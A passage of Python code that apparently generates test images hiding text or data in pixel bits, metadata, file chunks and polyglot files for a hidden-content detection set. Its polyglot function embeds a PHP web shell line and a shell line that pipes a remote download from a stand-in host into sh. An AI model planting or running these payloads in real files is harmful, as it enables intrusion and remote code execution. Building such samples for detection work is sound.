    return Made(with_chunk(m, png(cover(m)), chunk(name, body)), "png", {"encoding": how})


def png_private_opaque(m, _text):
    body, what = opaque(m)
    return Made(with_chunk(m, png(cover(m)), chunk(m.random.choice([b"stEg", b"hiDe", b"daTa", b"xxXx"]), body)), "png", {"what": what}, False)


def png_odd_fields(m, text):
    """Known chunks with what they are not for: hIST, tIME twice, gAMA of many bytes, sPLT, pHYs, iCCP named so, tRNS surplus."""
    data = text.encode()
    which = m.random.choice(["sPLT", "hIST", "gAMA", "iCCP_name", "iCCP_body", "tEXt_key", "checksum", "bKGD"])
    file = png(cover(m))
    if which == "sPLT":
        made = chunk(b"sPLT", b"colours\0\x08" + data + b"\0" * (-len(data) % 6))
    elif which == "iCCP_name":
        made = chunk(b"iCCP", data[:79] + b"\0\0" + zlib.compress(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()))
    elif which == "iCCP_body":
        made = chunk(b"iCCP", b"icc\0\0" + zlib.compress(icc_with(data)))
    elif which == "tEXt_key":
        made = chunk(b"tEXt", data[:79] + b"\0x")
    elif which == "checksum":
        made = b"".join(struct.pack(">I", 1) + b"teSt" + b"\0" + data[at : at + 4].ljust(4, b" ") for at in range(0, len(data), 4))
    else:
        made = chunk(which.encode(), data)
    return Made(file[:33] + made + file[33:], "png", {"which": which})


def png_idat(m, text):
    pixels = cover(m)
    height, width = pixels.shape[:2]
    raw = b"".join(b"\0" + row.tobytes() for row in pixels)
    body, how = encoded(m, text)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    which = m.random.choice(["behind_rows", "behind_stream", "second_idat", "own_stream", "filter"])
    if which == "behind_rows":
        parts = [chunk(b"IDAT", zlib.compress(raw + body))]
    elif which == "behind_stream":
        parts = [chunk(b"IDAT", zlib.compress(raw) + body)]
    elif which == "second_idat":
        parts = [chunk(b"IDAT", zlib.compress(raw)), chunk(b"IDAT", body)]
    elif which == "own_stream":
        parts = [chunk(b"IDAT", zlib.compress(raw)), chunk(b"IDAT", zlib.compress(body))]
    else:
        # A text in the filter types of the rows, as a puzzle has it: two of the five kinds.
        bits = bits_of(text.encode())[:height]
        rows = []
        for y, row in enumerate(pixels.astype(np.int16)):
            if y < len(bits) and bits[y]:
                before = np.concatenate([np.zeros((1, 3), np.int16), row[:-1]])
                rows.append(b"\1" + ((row - before) & 255).astype(np.uint8).tobytes())
            else:
                rows.append(b"\0" + row.astype(np.uint8).tobytes())
        parts = [chunk(b"IDAT", zlib.compress(b"".join(rows)))]
    return Made(b"\x89PNG\r\n\x1a\n" + head + b"".join(parts) + chunk(b"IEND", b""), "png", {"which": which, "encoding": how}, which != "filter")


def png_cropped_height(m, text):
    """The header says fewer rows than the data has: the rest shows a text."""
    from visual import written

    width = m.random.randint(400, 900)
    shown = m.ground("photograph", width, m.random.randint(200, 500))
    note = written(m, m.ground("paper", width, m.random.randint(200, 320)), text, sizes=(16, 26))
    whole = np.concatenate([shown, note])
    raw = b"".join(b"\0" + row.tobytes() for row in whole)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, shown.shape[0], 8, 2, 0, 0, 0))
    return Made(b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""), "png")


# --- any container ------------------------------------------------------------------------------------------------------------


def behind_text(m, text):
    file, form = any_file(m)
    body, how = encoded(m, text)
    return Made(file + m.random.choice([b"", b"", b"\n", b"\r\n", b"\0" * 16, b"----\n"]) + body, form, {"encoding": how})


def behind_opaque(m, _text):
    file, form = any_file(m)
    body, what = opaque(m)
    return Made(file + body, form, {"what": what}, False)


def behind_picture(m, text):
    from visual import written

    file, form = any_file(m)
    note = written(m, m.ground("paper", m.random.randint(420, 800), m.random.randint(240, 420)), text, sizes=(16, 26))
    kind = m.random.choice(["PNG", "JPEG", "GIF", "WEBP", "BMP", "TIFF"])
    return Made(file + saved(note, kind), form, {"what": kind})


def icc_with(data: bytes) -> bytes:
    """A small profile with a private tag, or a text as its description."""
    base = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    count = struct.unpack(">I", base[128:132])[0]
    table, rest = base[132 : 132 + 12 * count], base[132 + 12 * count :]
    moved = b"".join(table[at : at + 4] + struct.pack(">I", struct.unpack(">I", table[at + 4 : at + 8])[0] + 12) + table[at + 8 : at + 12] for at in range(0, len(table), 12))
    offset = 132 + 12 * (count + 1) + len(rest)
    body = b"text\0\0\0\0" + data + b"\0"
    head = base[:128] + struct.pack(">I", count + 1) + moved + b"prv0" + struct.pack(">II", offset, len(body)) + rest + body
    return struct.pack(">I", len(head)) + head[4:]


def icc_profile(m, text):
    body, how = encoded(m, text, ["plain", "plain", "base64"])
    kind = m.random.choice(["JPEG", "PNG", "WEBP", "TIFF"])
    return Made(saved(cover(m), kind, icc_profile=icc_with(body)), kind.lower(), {"encoding": how})


def xmp_packet(m, text):
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    inner = m.random.choice(
        [
            f'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:description><rdf:Alt><rdf:li xml:lang="x-default">{escaped}</rdf:li></rdf:Alt></dc:description></rdf:Description>',
            f'<rdf:Description xmlns:my="http://example.org/ns/" my:note="{escaped}"/>',
            f'<rdf:Description xmlns:my="http://example.org/ns/"><my:data>{base64.b64encode(text.encode()).decode()}</my:data></rdf:Description>',
        ]
    )
    packet = f'<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">{inner}</rdf:RDF></x:xmpmeta>{" " * 200}<?xpacket end="w"?>'.encode()
    kind = m.random.choice(["JPEG", "PNG", "WEBP"])
    pixels = cover(m)
    if kind == "PNG":
        return Made(with_chunk(m, png(pixels), chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet)), "png")
    return Made(saved(pixels, kind, xmp=packet), kind.lower())


def exif_field(m, text):
    exif = Image.Exif()
    data = text.encode()
    where = m.random.choice(["description", "artist", "copyright", "make", "comment", "maker", "xp", "gps", "undefined_tag", "software", "thumbnail", "base64"])
    if where in ("description", "artist", "copyright", "make", "software"):
        exif[{"description": 0x010E, "artist": 0x013B, "copyright": 0x8298, "make": 0x010F, "software": 0x0131}[where]] = text
    elif where == "base64":
        exif[0x010E] = base64.b64encode(data).decode()
    elif where == "comment":
        exif.get_ifd(0x8769)[0x9286] = b"ASCII\0\0\0" + data
    elif where == "maker":
        exif.get_ifd(0x8769)[0x927C] = m.random.choice([b"Canon\0", b"Nikon\0\2", b""]) + noise(m, 40) + data + noise(m, 80)
    elif where == "xp":
        exif[0x9C9C] = text.encode("utf-16-le") + b"\0\0"
    elif where == "gps":
        exif.get_ifd(0x8825)[0x001B] = b"ASCII\0\0\0" + data
    else:
        exif[m.random.choice([0xC000, 0xEA1C, 0x7777])] = data
    kind = m.random.choice(["JPEG", "WEBP", "PNG", "TIFF"])
    return Made(saved(cover(m), kind, exif=exif), kind.lower(), {"where": where})


def jpeg_segment(m, text):
    file = saved(cover(m), "JPEG", quality=m.random.randint(60, 95))
    body, how = encoded(m, text)
    marker = m.random.choice([0xFE, 0xFE, 0xE1, 0xE2, 0xE5, 0xEB, 0xEC, 0xEE, 0xEF])
    prefix = b"" if marker == 0xFE else m.random.choice([b"", b"DATA\0", noise(m, 12)])
    made = bytes([0xFF, marker]) + struct.pack(">H", len(prefix + body) + 2) + prefix + body
    where = m.random.choice(["front", "before_scan"])
    at = 2 if where == "front" else file.index(b"\xff\xda")
    return Made(file[:at] + made + file[at:], "jpeg", {"marker": f"{marker:02x}", "encoding": how, "where": where})


def jpeg_segment_opaque(m, _text):
    file = saved(cover(m), "JPEG", quality=85)
    body, what = opaque(m, 30_000)
    body = body[:60_000]
    marker = m.random.choice([0xFE, 0xE3, 0xE7, 0xE9, 0xEF])
    return Made(file[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body + file[2:], "jpeg", {"marker": f"{marker:02x}", "what": what}, False)


def jpeg_between(m, text):
    """Bytes between two segments, where a decoder looks for the next marker."""
    file = saved(cover(m), "JPEG", quality=85)
    body, how = encoded(m, text, ["plain", "plain", "base64"])
    at = file.index(b"\xff\xdb")
    return Made(file[:at] + body.replace(b"\xff", b"") + file[at:], "jpeg", {"encoding": how})


def jpeg_tables(m, text):
    """In a quantisation or Huffman table that no component names, or in the surplus of a segment."""
    file = saved(cover(m), "JPEG", quality=85)
    data = text.encode()
    which = m.random.choice(["dqt", "jfif"])
    if which == "dqt":
        tables = b"".join(b"\xff\xdb" + struct.pack(">H", 67) + b"\x03" + data[at : at + 64].ljust(64, b" ") for at in range(0, len(data), 64))
        return Made(file[:20] + tables + file[20:], "jpeg", {"which": which})
    length = struct.unpack(">H", file[4:6])[0]
    return Made(file[:4] + struct.pack(">H", length + len(data)) + file[6 : 4 + length] + data + file[4 + length :], "jpeg", {"which": which})


def jpeg_thumbnail(m, text):
    """An EXIF preview that shows a text the picture does not."""
    from visual import written

    note = written(m, m.ground("paper", 320, 240), text[:90], sizes=(14, 20))
    preview = saved(note, "JPEG", quality=85)
    ifd0 = struct.pack("<HHHIIH", 1, 0x0112, 3, 1, 1, 0)[:14] + struct.pack("<I", 26)
    start = 26 + 2 + 3 * 12 + 4
    entries = struct.pack("<HHIHH", 0x0103, 3, 1, 6, 0) + struct.pack("<HHII", 0x0201, 4, 1, start) + struct.pack("<HHII", 0x0202, 4, 1, len(preview))
    tiff = b"II*\0\x08\0\0\0" + ifd0 + struct.pack("<H", 3) + entries + struct.pack("<I", 0) + preview
    return Made(saved(cover(m, least=320, kinds=PHOTOGRAPH), "JPEG", quality=88, exif=b"Exif\0\0" + tiff), "jpeg")


def gif_parts(m, text):
    file = saved(cover(m, most=600), "GIF")
    body, how = encoded(m, text, ["plain"] * 4 + ["base64", "zlib"])
    blocks = b"".join(bytes([len(body[at : at + 255])]) + body[at : at + 255] for at in range(0, len(body), 255)) + b"\0"
    which = m.random.choice(["comment", "application", "plain_text", "unknown", "delay"])
    head = {"comment": b"\x21\xfe", "application": b"\x21\xff\x0bSECRET__1.0", "plain_text": b"\x21\x01\x0c" + bytes(8) + b"\x08\x08\1\0", "unknown": b"\x21\x42"}.get(which)
    if which == "delay":
        frames = [Image.fromarray(cover(m, least=96, most=96)) for _ in range(min(len(text), 80))]
        out = io.BytesIO()
        frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=[ord(letter) * 10 % 1270 for letter in text[: len(frames)]], loop=0)
        return Made(out.getvalue(), "gif", {"which": which}, False)
    at = 13 + 3 * 2 ** ((file[10] & 7) + 1) if m.random.random() < 0.5 else len(file) - 1
    return Made(file[:at] + head + blocks + file[at:], "gif", {"which": which, "encoding": how})


def gif_between_blocks(m, text):
    """Behind the last image data sub-block: surplus of the LZW stream."""
    file = saved(cover(m, most=600), "GIF")
    body, how = encoded(m, text, ["plain", "base64"])
    blocks = b"".join(bytes([len(body[at : at + 255])]) + body[at : at + 255] for at in range(0, len(body), 255))
    return Made(file[:-2] + blocks + b"\0\x3b", "gif", {"encoding": how})


def bmp_gap(m, text):
    file = bytearray(saved(cover(m), "BMP"))
    body, how = encoded(m, text)
    offset = struct.unpack_from("<I", file, 10)[0]
    struct.pack_into("<I", file, 10, offset + len(body))
    struct.pack_into("<I", file, 2, len(file) + len(body))
    return Made(bytes(file[:offset] + body + file[offset:]), "bmp", {"encoding": how})


def bmp_row_padding(m, text):
    """In the bytes that fill a row up to four."""
    width = m.random.choice([101, 203, 303, 401]) // 2 * 2 + 1
    pixels = m.ground("photograph", width, m.random.randint(400, 800))
    file = bytearray(saved(pixels, "BMP"))
    stride, used = -(-width * 3 // 4) * 4, width * 3
    free = stride - used
    data = text.encode()
    for y in range(pixels.shape[0]):
        part = data[y * free : (y + 1) * free]
        at = 54 + y * stride + used
        file[at : at + len(part)] = part
    return Made(bytes(file), "bmp")


def bmp_fields(m, text):
    """The important colours, reserved words: short. Fields are few, so the rest goes behind."""
    file = bytearray(saved(cover(m, kinds=["pixel_art", "icon"]), "BMP"))
    file[6:10] = b"MZ\0\0"[:4]
    body, what = opaque(m)
    return Made(bytes(file) + body, "bmp", {"what": what}, False)


def tiff_parts(m, text):
    data, how = encoded(m, text, ["plain"] * 4 + ["base64", "zlib"])
    which = m.random.choice(["private_tag", "description", "gap", "second_page", "document_name"])
    if which == "second_page":
        from visual import written

        first = Image.fromarray(cover(m, most=600))
        second = Image.fromarray(written(m, m.ground("paper", 640, 360), text, sizes=(16, 26)))
        out = io.BytesIO()
        first.save(out, "TIFF", save_all=True, append_images=[second])
        return Made(out.getvalue(), "tiff", {"which": which})
    from PIL import TiffImagePlugin

    info = TiffImagePlugin.ImageFileDirectory_v2()
    if which == "private_tag":
        tag = m.random.choice([65000, 50900, 37000, 33000])
        info[tag], info.tagtype[tag] = data, 7
    elif which == "description":
        info[270] = text
    elif which == "document_name":
        info[269] = text
    file = saved(cover(m, most=700), "TIFF", tiffinfo=info)
    if which == "gap":
        # Between the header and the first directory, whose offset moves with everything else left where it was: behind a copy.
        offset = struct.unpack("<I", file[4:8])[0]
        count = struct.unpack("<H", file[offset : offset + 2])[0]
        ifd = file[offset : offset + 2 + 12 * count + 4]
        file = file + data + b"\0" * (len(data) % 2)
        file = file[:4] + struct.pack("<I", len(file)) + file[8:] + ifd
    return Made(file, "tiff", {"which": which, "encoding": how})


def webp_chunk(m, text):
    file = saved(cover(m), "WEBP", quality=80)
    body, how = encoded(m, text)
    body += b"\0" * (len(body) % 2)
    name = m.random.choice([b"noTe", b"DATA", b"JUNK", b"SECR"])
    whole = file[8:] + name + struct.pack("<I", len(body)) + body
    return Made(b"RIFF" + struct.pack("<I", len(whole)) + whole, "webp", {"encoding": how})


def webp_opaque(m, _text):
    file = saved(cover(m), "WEBP", quality=80)
    body, what = opaque(m)
    body += b"\0" * (len(body) % 2)
    whole = file[8:] + b"xtra" + struct.pack("<I", len(body)) + body
    return Made(b"RIFF" + struct.pack("<I", len(whole)) + whole, "webp", {"what": what}, False)


# --- files that are two -------------------------------------------------------------------------------------------------------


def polyglot(m, text):
    quoted = text.replace('"', "'").replace("\\", "")
    script = f'alert("{quoted}")'
    which = m.random.choice(["gif_js", "gif_php", "jpeg_html", "png_html", "jpeg_php", "bmp_js", "jpeg_zip", "png_zip", "gif_zip", "jpeg_pdf", "png_pdf", "gif_html", "jpeg_sh", "png_sh", "jpeg_jar", "webp_html", "jpeg_hta", "svg_png"])
    kind, other = which.split("_")
    if kind == "svg":
        kind = "png"
    if which == "gif_js":
        file = bytearray(saved(cover(m, most=400), "GIF"))
        file[6:8] = b"/*"
        return Made(bytes(file) + f"*/=1;{script};//".encode(), "gif", {"which": which})
    if which == "bmp_js":
        file = bytearray(saved(cover(m, most=400), "BMP"))
        file[2:6] = b"/**\0"
        return Made(bytes(file) + f"*/=1;{script};".encode(), "bmp", {"which": which})
    file = saved(cover(m, most=500), kind.upper())
    html = f"<html><body><script>{script}</script><p>{text}</p></body></html>".encode()
    code = {
        "php": f'<?php echo "{quoted}"; system($_GET["c"]); ?>'.encode(),
        "html": b"--><!DOCTYPE html>" + html + b"<!--",
        "sh": f"\n#!/bin/sh\necho \"{quoted}\"\ncurl http://198.51.100.7/x | sh\nexit\n".encode(),
        "hta": f'<hta:application/><script language="VBScript">MsgBox "{quoted}"</script>'.encode(),
        "png": f'<svg xmlns="http://www.w3.org/2000/svg"><text>{text}</text></svg>'.encode(),
        "pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj\n4 0 obj<</Length 44>>stream\nBT /F1 12 Tf (x) Tj ET\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
        "zip": archive(m, text),
        "jar": archive(m, "Manifest-Version: 1.0\nMain-Class: A\n"),
    }[other]
    if other in ("zip", "jar"):
        return Made(file + code, kind, {"which": which})
    if kind == "jpeg":
        made = b"\xff\xfe" + struct.pack(">H", len(code) + 2) + code
        file = file[:2] + made + file[2:] if m.random.random() < 0.6 else file + code
    elif kind == "png":
        file = with_chunk(m, file, chunk(m.random.choice([b"tEXt", b"prIv"]), b"c\0" + code)) if m.random.random() < 0.6 else file + code
    elif kind == "gif":
        blocks = b"".join(bytes([len(code[at : at + 255])]) + code[at : at + 255] for at in range(0, len(code), 255)) + b"\0"
        file = file[:-1] + b"\x21\xfe" + blocks + b"\x3b"
    else:
        file += code
    return Made(file, kind, {"which": which})


def random_bits(m, _text):
    """Encrypted data of 1 to 100 % of the capacity, in any order, one to four bits a sample."""
    pixels = cover(m, least=96, kinds=PHOTOGRAPH * 4 + ("clouds", "screenshot", "texture", "chart"))
    share = m.random.choice([0.01, 0.05, 0.1, 0.25, 0.5, 0.75, 1])
    bits = m.random.choice([1, 1, 1, 2, 3, 4])
    count = max(int(pixels.size * share * bits) // 8 - 1, 8)
    if m.random.random() < 0.5:
        samples = pixels.reshape(-1)
        at = m.noise.permutation(len(samples))[: count * 8 // bits]
        put(samples, at, bits_of(noise(m, count)), bits, 0, False)
        drawn = {"order": "scattered"}
    else:
        pixels, drawn = embedded(m, pixels, noise(m, count), channels=[0, 1, 2], bits=bits, plane=0, planar=False, offset=0)
    file, form = lossless(m, pixels)
    return Made(file, form, {"share": share, "bits": bits, "order": drawn["order"]}, False)


def matching_bits(m, _text):
    """LSB matching: plus or minus one."""
    pixels = cover(m, least=128, kinds=PHOTOGRAPH).astype(np.int16)
    share = m.random.choice([0.25, 0.5, 1])
    flat = pixels.reshape(-1)
    at = m.noise.permutation(len(flat))[: int(len(flat) * share)]
    wrong = at[m.noise.random(len(at)) < 0.5]
    flat[wrong] += m.noise.choice([-1, 1], len(wrong)).astype(np.int16)
    file, form = lossless(m, np.clip(pixels, 0, 255).astype(np.uint8))
    return Made(file, form, {"share": share}, False)


READABLE = {
    "lsb_text": (lsb_text, 6),
    "lsb_repeated": (lsb_repeated, 1),
    "pixel_values": (pixel_values, 1),
    "sixteen_bits": (sixteen_bits, 1),
    "under_transparent": (under_transparent, 1),
    "alpha_values": (alpha_values, 1),
    "stegano": (stegano_tool, 1),
    "stepic": (stepic_format, 1),
    "lsbsteg": (lsbsteg_format, 1),
    "openstego": (openstego, 1),
    "wbstego": (wbstego, 1),
    "jsteg_text": (jsteg_text, 2),
    "index_bits": (index_bits, 1),
    "palette_text": (palette_text, 1),
    "png_text": (png_text, 1),
    "png_private": (png_private, 1),
    "png_odd_fields": (png_odd_fields, 1),
    "png_idat": (png_idat, 2),
    "png_cropped_height": (png_cropped_height, 1),
    "behind_text": (behind_text, 2),
    "behind_picture": (behind_picture, 2),
    "icc_profile": (icc_profile, 1),
    "xmp_packet": (xmp_packet, 1),
    "exif_field": (exif_field, 2),
    "jpeg_segment": (jpeg_segment, 2),
    "jpeg_between": (jpeg_between, 1),
    "jpeg_tables": (jpeg_tables, 1),
    "jpeg_thumbnail": (jpeg_thumbnail, 1),
    "gif_parts": (gif_parts, 1),
    "gif_between_blocks": (gif_between_blocks, 1),
    "bmp_gap": (bmp_gap, 1),
    "bmp_row_padding": (bmp_row_padding, 1),
    "tiff_parts": (tiff_parts, 2),
    "webp_chunk": (webp_chunk, 1),
    "polyglot": (polyglot, 3),
}

OPAQUE = {
    "random_bits": (random_bits, 6),
    "matching_bits": (matching_bits, 1),
    "cloaked_pixel": (cloaked_pixel, 1),
    "seeded_positions": (two_keys_sequence, 1),
    "invisible_watermark": (invisible_watermark, 1),
    "camouflage": (camouflage, 1),
    "debian_tool": (debian_tool, 2),
    "jsteg_noise": (jsteg_noise, 2),
    "f5_noise": (f5_noise, 1),
    "index_noise": (index_noise, 1),
    "png_private_opaque": (png_private_opaque, 1),
    "behind_opaque": (behind_opaque, 3),
    "jpeg_segment_opaque": (jpeg_segment_opaque, 1),
    "bmp_fields": (bmp_fields, 1),
    "webp_opaque": (webp_opaque, 1),
}


def smuggled(m: Material, table, cell: str, text: str) -> Made:
    """A cover without room for the text is drawn again."""
    for _ in range(40):
        try:
            return table[cell][0](m, text)
        except (ValueError, IndexError, OverflowError) as reason:
            last = reason
    raise RuntimeError(cell) from last
